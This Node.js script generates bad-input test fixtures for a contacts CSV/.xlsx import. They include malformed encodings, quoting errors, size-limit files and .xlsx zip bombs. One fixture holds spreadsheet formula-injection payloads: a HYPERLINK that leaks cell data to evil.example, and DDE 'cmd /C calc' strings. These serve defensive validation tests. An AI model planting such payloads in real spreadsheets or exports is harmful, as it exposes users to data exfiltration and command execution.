#!/usr/bin/env node
/**
 * The bad-input corpus of the contacts import (test/fixtures/bad/, checked by
 * test/e2e/badInput.test.ts).
 *
 *   node scripts/make-bad-fixtures.js     writes the small fixtures into test/fixtures/bad/
 *
 * The small files are stored as they are (run this again only to regenerate
 * them after changing their recipe here). The big ones (a file over 5 MB, a
 * 1 MB cell) are not stored: the test calls `writeGeneratedFixtures(dir)` to
 * write them into a temp folder.
 *
 * Plain Node, no dependency: the Windows-1252 and UTF-16 bytes are built by
 * hand, the zip and .xlsx ones by test/helpers/xlsxFile.js, so that the files
 * are exactly what the recipe says.
 */
'use strict';
const fs = require('node:fs');
const path = require('node:path');
const { xlsxFile, zip } = require('../test/helpers/xlsxFile.js');
const { BOMBS } = require('../test/helpers/xlsxBombs.js');

const OUT = path.join(__dirname, '..', 'test', 'fixtures', 'bad');

/** A short Webex template header: the columns that a valid row needs, plus Title. */
const WEBEX = 'Display Name,Contact UUID,First Name,Last Name,Phone Number 1,Phone Number 1 Type,Contact Email,Title';
const WEBEX_28 = [
  'Display Name', 'Contact UUID', 'First Name', 'Last Name',
  ...[1, 2, 3, 4, 5].flatMap((n) => [`Phone Number ${n}`, `Phone Number ${n} Type`]),
  'Contact Email', 'SIP URI', 'Title', 'Company Name', 'Address Street', 'Address City', 'Address State',
  'Address Country', 'Address Zip', ...[1, 2, 3, 4, 5].map((n) => `Group ID ${n}`),
].join(',');
const COMPANY = 'nom-contact,poste,e-mail,téléphone-travail,téléphone-facultatif-1,téléphone-facultatif-2';

const crlf = (...lines) => lines.map((line) => `${line}\r\n`).join('');
const utf8 = (text) => Buffer.from(text, 'utf8');
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/** Windows-1252 for the Latin-1 range it shares with Unicode (enough for French accents); anything else is a mistake here. */
function cp1252(text) {
  return Buffer.from([...text].map((char) => {
    const code = char.codePointAt(0);
    if (code > 0xff || (code >= 0x80 && code < 0xa0)) throw new Error(`not in the Latin-1 part of Windows-1252: ${char}`);
    return code;
  }));
}

function utf16(text, endian) {
  const le = Buffer.from(text, 'utf16le');
  if (endian === 'le') return le;
  const be = Buffer.alloc(le.length);
  for (let i = 0; i < le.length; i += 2) {
    be[i] = le[i + 1];
    be[i + 1] = le[i];
  }
  return be;
}

/** Six valid contacts, one per line: over a limit of 5 rows by exactly one. */
const sixRows = [1, 2, 3, 4, 5, 6].map((n) => `Limite ${n},,,,01 23 45 67 0${n},work,limite${n}@example.com,`);

/** name → bytes of every stored fixture. */
const FIXTURES = {
  // --- not a CSV at all
  'binary-png.csv': Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52]),
    Buffer.from([0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89]),
    Buffer.from([0x00, 0x00, 0x00, 0x0a, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0x00, 0x01, 0x00, 0x00, 0x05, 0x00, 0x01]),
    Buffer.from([0x0d, 0x0a, 0x2d, 0xb4, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82]),
  ]),
  'zip-not-xlsx.xlsx': zip({ 'readme.txt': 'This archive holds no workbook.\n', 'contacts.csv': crlf(WEBEX, 'Ada,,,,0123456701,work,,') }),
  'truncated.xlsx': xlsxFile([WEBEX.split(','), ['Ada Lovelace', '', 'Ada', 'Lovelace', '01 23 45 67 01', 'work', 'ada@example.com', 'Countess']]).subarray(0, 400),
  'nul-bytes.csv': Buffer.concat([utf8(crlf(WEBEX)), utf8('Ada\0Lovelace,,,,01 23 45 67 01,work,,\0\r\n')]),
  'utf16le-no-bom.csv': utf16(crlf(WEBEX, 'Élodie Martin,,,,01 23 45 67 01,work,,'), 'le'),
  'utf16be-no-bom.csv': utf16(crlf(WEBEX, 'Élodie Martin,,,,01 23 45 67 01,work,,'), 'be'),
  // UTF-8 with accents, but one "é" cut after its first byte and a lone continuation byte: no encoding reads it whole.
  'broken-utf8.csv': Buffer.concat([
    utf8(crlf(COMPANY, 'Hélène Brûlé,Sécurité,helene@exemple.fr,01 23 45 67 81,,')),
    utf8('Ren'), Buffer.from([0xc3]), utf8(' Faure,Comptabilit'), Buffer.from([0xa9]), utf8(',rene@exemple.fr,01 23 45 67 82,,\r\n'),
  ]),
  // --- nothing to import
  'empty.csv': Buffer.alloc(0),
  'whitespace-only.csv': utf8('   \r\n\t\r\n \r\n\r\n'),
  'bom-only.csv': BOM,
  'only-delimiters.csv': utf8(crlf(',,,,,,,', ',,,,,,,', ',,,')),
  'header-only-company.csv': utf8(crlf(`${COMPANY},`)),
  'header-only-then-blank-lines.csv': utf8(`${WEBEX_28}\r\n\r\n ,  , \r\n\r\n`),
  // --- header tricks
  'duplicate-column.csv': utf8(crlf(`${WEBEX},Contact Email`, 'Ada,,,,01 23 45 67 01,work,ada@example.com,,ada@example.com')),
  'missing-display-name.csv': utf8(crlf('First Name,Last Name,Phone Number 1,Phone Number 1 Type,Contact Email', 'Ada,Lovelace,01 23 45 67 01,work,ada@example.com')),
  'missing-phone-type.csv': utf8(crlf('Display Name,Phone Number 1,Contact Email', 'Ada Lovelace,01 23 45 67 01,ada@example.com')),
  'unknown-columns-only.csv': utf8(crlf('Name,Phone,Mail,Job', 'Ada Lovelace,01 23 45 67 01,ada@example.com,Countess')),
  // Excel's "sep=" directive line before the header.
  'sep-directive.csv': utf8(crlf('sep=;', WEBEX.replace(/,/g, ';'), 'Ada Lovelace;;;;01 23 45 67 01;work;ada@example.com;')),
  'html-saved-as-csv.csv': utf8('<html><head><title>Contacts</title></head>\r\n<body><table><tr><td>Display Name</td></tr></table></body></html>\r\n'),
  'header-repeated-as-row.csv': utf8(crlf(WEBEX, 'Ada Lovelace,,,,01 23 45 67 01,work,ada@example.com,', WEBEX, 'Alan Turing,,,,01 23 45 67 02,work,alan@example.com,')),
  // Two exports pasted one after the other: the second one's BOM is now in the middle of the file.
  'bom-in-middle.csv': Buffer.concat([
    BOM,
    utf8(crlf(WEBEX, 'Ada Lovelace,,,,01 23 45 67 01,work,ada@example.com,')),
    BOM,
    utf8(crlf(WEBEX, 'Alan Turing,,,,01 23 45 67 02,work,alan@example.com,')),
  ]),
  // --- quoting
  'unclosed-quote.csv': utf8(crlf(WEBEX, 'Ada Lovelace,,,,01 23 45 67 01,work,ada@example.com,', '"Alan Turing,,,,01 23 45 67 02,work,alan@example.com,', 'Grace Hopper,,,,01 23 45 67 03,work,grace@example.com,')),
  'quote-mid-field.csv': utf8(crlf(WEBEX, 'Ada Lovelace,,,,01 23 45 67 01,work,ada@example.com,', 'Jean "JJ" Dupont,,,,01 23 45 67 02,work,jj@example.com,')),
  'quote-after-closing-quote.csv': utf8(crlf(WEBEX, 'Ada Lovelace,,,,01 23 45 67 01,work,ada@example.com,', '"Alan" Turing,,,,01 23 45 67 02,work,alan@example.com,')),
  // --- row errors (the file is read; the row is reported with its line and column)
  // Line 2 ends with extra empty cells (a trailing delimiter run: accepted); line 3 has a comma inside an unquoted name.
  'too-many-values.csv': utf8(crlf(WEBEX, 'Ada Lovelace,,,,01 23 45 67 01,work,ada@example.com,,,,', 'Turing, Alan,,,,01 23 45 67 02,work,alan@example.com,Mathematician')),
  'phone-scientific-notation.csv': utf8(crlf(WEBEX, 'Ada Lovelace,,,,01 23 45 67 01,work,,', 'Alan Turing,,,,3.36123E+10,mobile,,', 'Grace Hopper,,,,"3,36123E+10",mobile,,')),
  'invalid-email.csv': utf8(crlf(WEBEX, 'Ada Lovelace,,,,,,ada@example.com,', 'Alan Turing,,,,,,alan.example.com,', 'Grace Hopper,,,,,,grace@@example.com,')),
  'invalid-phone-type.csv': utf8(crlf(WEBEX, 'Ada Lovelace,,,,01 23 45 67 01,work,,', 'Alan Turing,,,,06 12 34 56 78,portable,,', 'Grace Hopper,,,,01 23 45 67 03,,,')),
  'formula-as-phone.csv': utf8(crlf(WEBEX, 'Ada Lovelace,,,,=1+2,work,,', 'Alan Turing,,,,"=HYPERLINK(""http://evil.example"",""call"")",work,,')),
  'company-missing-method.csv': utf8(crlf(`${COMPANY},`, 'John Smith,Sécurité,jhon-smith@email.com,00491222333444555,,,', 'Sans Moyen,Accueil,,,0123456789,,')),
  // --- .xlsx bombs (#27): a few KB that unzip or spread far past the caps (the bigger ones are generated)
  'bomb-spaces-50mb.xlsx': BOMBS['bomb-spaces-50mb.xlsx'](),
  'bomb-lying-size.xlsx': BOMBS['bomb-lying-size.xlsx'](),
  'bomb-far-cell.xlsx': BOMBS['bomb-far-cell.xlsx'](),
  // --- over a limit (the test sets IMPORT_MAX_ROWS / IMPORT_MAX_BYTES)
  'six-rows.csv': utf8(crlf(WEBEX, ...sixRows)),
  // --- tricky but valid: imported as they are
  'windows-1252-accents.csv': cp1252(crlf(
    'nom-contact;poste;e-mail;téléphone-travail;téléphone-facultatif-1;téléphone-facultatif-2',
    'Élodie Crête;Sécurité;elodie.crete@exemple.fr;01 23 45 67 01;;',
    'François Noël;Réception, accueil;francois.noel@exemple.fr;01 23 45 67 02;;',
  )),
  'semicolon-bom.csv': Buffer.concat([BOM, utf8(crlf(WEBEX.replace(/,/g, ';'), 'Zoé Dupré;;Zoé;Dupré;01 23 45 67 11;work;zoe@exemple.fr;"Chef; de projet"', 'Ana Núñez;;;;+34 912 345 678;mobile;;'))]),
  'utf16le-bom-tab.csv': Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(crlf(WEBEX.replace(/,/g, '\t'), 'Jérôme Lévêque\t\t\t\t01 23 45 67 21\twork\t\tDirecteur'), 'le')]),
  'cr-only-line-endings.csv': utf8(`${WEBEX}\rMac Classic,,,,01 23 45 67 31,work,mac@example.com,\r"Two\rLines",,,,01 23 45 67 32,work,,\rBad Mail,,,,,,not-an-email,\r`),
  'blank-lines-before-header.csv': utf8(`\r\n\r\n${crlf(WEBEX, 'Ada Lovelace,,,,01 23 45 67 41,work,,', 'No Method,,,,,,,Countess')}`),
  'double-bom.csv': Buffer.concat([BOM, BOM, utf8(crlf(WEBEX, 'Double Bom,,,,01 23 45 67 51,work,,'))]),
  'formula-injection.csv': utf8(crlf(
    WEBEX,
    '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",,,,01 23 45 67 61,work,formula1@example.com,"=HYPERLINK(""http://evil.example"")"',
    '+cmd|\' /C calc\'!A0,,,,01 23 45 67 62,work,formula2@example.com,+cmd|\' /C notepad\'!A0',
    '-2+3,,,,01 23 45 67 63,work,formula3@example.com,-2+3',
    '@SUM(1+1)*cmd|\' /C calc\'!A0,,,,01 23 45 67 64,work,formula4@example.com,@SUM(A1:A9)',
    '"\t=1+1",,,,01 23 45 67 65,work,formula5@example.com,"\r=1+1"',
  )),
};

/** Writes the stored fixtures into `dir` (test/fixtures/bad by default); returns their names. */
function writeStoredFixtures(dir = OUT) {
  fs.mkdirSync(dir, { recursive: true });
  for (const [name, bytes] of Object.entries(FIXTURES)) fs.writeFileSync(path.join(dir, name), bytes);
  return Object.keys(FIXTURES);
}

/** A valid contact line of exactly `size` bytes (CRLF included), for padding a file to a size. */
function paddingRow(n, size) {
  const head = `Pad ${n} `;
  const tail = `,,,,01 23 45 ${String(10 + (n % 90))} ${String(10 + (Math.floor(n / 90) % 90))},work,,\r\n`;
  return head + 'x'.repeat(Math.max(0, size - head.length - tail.length)) + tail;
}

/**
 * The big fixtures, written into `dir` at test time (they are not stored):
 * - over-5mb.csv: a valid file of 5 MB + 1 byte (the default IMPORT_MAX_BYTES is 5 MB);
 * - cell-1mb.csv: a valid contact, then one whose phone number is a 1 MB cell (line 3);
 * - unclosed-quote-1mb.csv: a quote opened on line 3 and never closed, 1 MB before the end of the file;
 * - bomb-cell-300mb.xlsx: one 300 MB cell in a 300 KB .xlsx (test/helpers/xlsxBombs.js).
 */
function writeGeneratedFixtures(dir) {
  const limit = 5 * 1024 * 1024;
  const header = `${WEBEX}\r\n`;
  const rows = [];
  let size = Buffer.byteLength(header);
  for (let n = 1; size < limit + 1; n++) {
    const row = paddingRow(n, Math.min(1000, limit + 1 - size));
    rows.push(row);
    size += Buffer.byteLength(row);
  }
  const over = utf8(header + rows.join(''));
  if (over.length !== limit + 1) throw new Error(`over-5mb.csv is ${over.length} bytes`);
  const mb = 1024 * 1024;
  const files = {
    'over-5mb.csv': over,
    'cell-1mb.csv': utf8(crlf(WEBEX, 'Short Cell,,,,01 23 45 67 71,work,,', `Long Phone,,,,${'1'.repeat(mb)},work,,`)),
    'unclosed-quote-1mb.csv': utf8(crlf(WEBEX, 'Ada Lovelace,,,,01 23 45 67 01,work,ada@example.com,', `Long,,,,01 23 45 67 02,work,,"${'Q'.repeat(mb)}`)),
    'bomb-cell-300mb.xlsx': BOMBS['bomb-cell-300mb.xlsx'](),
  };
  for (const [name, bytes] of Object.entries(files)) fs.writeFileSync(path.join(dir, name), bytes);
  return Object.keys(files);
}

module.exports = { FIXTURES, writeStoredFixtures, writeGeneratedFixtures, OUT };

if (require.main === module) {
  const names = writeStoredFixtures();
  process.stdout.write(`Wrote ${names.length} fixtures into ${path.relative(process.cwd(), OUT) || '.'}\n`);
}
